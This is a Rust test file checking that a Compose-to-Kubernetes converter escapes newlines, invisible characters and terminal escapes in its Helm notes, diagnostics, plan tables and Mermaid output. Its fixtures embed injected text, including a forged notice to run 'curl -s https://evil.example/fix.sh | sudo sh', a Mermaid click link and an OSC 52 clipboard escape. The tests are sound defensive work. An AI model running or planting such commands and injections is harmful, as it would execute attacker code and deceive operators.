//! A value from the input never starts a line of its own in what people
//! read: newlines, tabs and invisible characters in a compose value are
//! escaped wherever it is quoted inline (diagnostics, the plan, `check`,
//! Helm's NOTES.txt, the Mermaid diagram).

use crate::common::{Test, compose_dir};

/// The red team's bind source: a paragraph of its own in NOTES.txt.
const FORGED: &str = "services:\n  web:\n    image: nginx:1\n    volumes:\n      - type: bind\n        source: \"/srv/x`.\\n\\nIMPORTANT: the chart needs a fix, run\\n\\n  curl -s https://evil.example/fix.sh | sudo sh\\n\\n(`/srv\"\n        target: /x\n";

fn no_forged_line(text: &str) {
    for line in text.lines() {
        let line = line.trim_start();
        assert!(
            !line.starts_with("IMPORTANT") && !line.starts_with("curl"),
            "a line from the input: {line:?} in\n{text}"
        );
    }
}

#[test]
fn a_newline_in_a_host_path_forges_no_line_in_helm_notes() {
    let dir = compose_dir(FORGED);
    Test::new()
        .current_dir(dir.path())
        .args(["convert", "--format", "helm", "-o", "chart"])
        .success();
    let notes = std::fs::read_to_string(dir.path().join("chart/templates/NOTES.txt")).unwrap();
    assert!(notes.contains("/srv/x`.\\n\\nIMPORTANT"), "{notes}");
    no_forged_line(&notes);
}

#[test]
fn a_newline_in_a_host_path_forges_no_line_in_check_or_diagnostics() {
    let dir = compose_dir(FORGED);
    let run = Test::new()
        .current_dir(dir.path())
        .args(["check", "-v"])
        .run();
    no_forged_line(&run.stdout);
    no_forged_line(&run.stderr);
    assert!(run.stdout.contains("pod security:"), "{}", run.stdout);
}

#[test]
fn a_newline_in_an_error_message_stays_inside_the_mermaid_comment() {
    let dir = compose_dir(
        "services:\n  web:\n    image: \"Nginx\\nclick c_web href \\\"https://evil\\\"\\n  c_x[\\\"pwned\\\"]\\n\"\n",
    );
    let run = Test::new()
        .current_dir(dir.path())
        .args(["plan", "--format", "mermaid"])
        .run();
    assert!(run.stdout.starts_with("flowchart LR\n"), "{}", run.stdout);
    for line in run.stdout.lines() {
        assert!(
            !line.contains("click") || line.starts_with("%%"),
            "{line:?}"
        );
        assert!(!line.trim_start().starts_with("c_x"), "{line:?}");
    }
}

#[test]
fn plan_table_rows_stay_one_line_each() {
    let dir = compose_dir(
        "services:\n  web:\n    image: nginx\n    volumes: [\"a:/d\\n  99  forged-row\\tX\"]\nvolumes: {a: {}}\n",
    );
    let run = Test::new().current_dir(dir.path()).args(["plan"]).run();
    assert!(
        !run.stdout.lines().any(|l| l.trim_start().starts_with("99")),
        "{}",
        run.stdout
    );
}

#[test]
fn invisible_characters_are_shown_escaped() {
    let dir = compose_dir(
        "services:\n  web:\n    image: nginx\n    volumes: [\"/srv/da\u{200b}ta:/d\"]\n",
    );
    let run = Test::new().current_dir(dir.path()).args(["check"]).run();
    assert!(run.stderr.contains("/srv/da\\u{200b}ta"), "{}", run.stderr);
    assert!(!run.stderr.contains('\u{200b}'), "{}", run.stderr);
}

#[test]
fn several_pods_make_one_mermaid_diagram() {
    let dir = compose_dir(
        "services:\n  web: {image: nginx, network_mode: host}\n  db: {image: postgres}\n",
    );
    let run = Test::new()
        .current_dir(dir.path())
        .args(["plan", "--format", "mermaid"])
        .run();
    assert_eq!(run.stdout.matches("flowchart").count(), 1, "{}", run.stdout);
    assert!(run.stdout.contains("subgraph pod["), "{}", run.stdout);
    assert!(run.stdout.contains("subgraph pod_2["), "{}", run.stdout);
}

#[test]
fn config_images_prints_no_escape_sequence() {
    let dir = compose_dir(
        "services:\n  web:\n    image: \"nginx\\e]52;c;aGk=\\a:1\"\n  db:\n    image: \"redis\\nevil.example/x\"\n",
    );
    let run = Test::new()
        .current_dir(dir.path())
        .args(["config", "--images"])
        .run();
    assert!(!run.stdout.contains('\u{1b}'), "{:?}", run.stdout);
    assert!(!run.stdout.contains('\u{7}'), "{:?}", run.stdout);
    assert!(
        !run.stdout.lines().any(|l| l == "evil.example/x"),
        "{:?}",
        run.stdout
    );
}
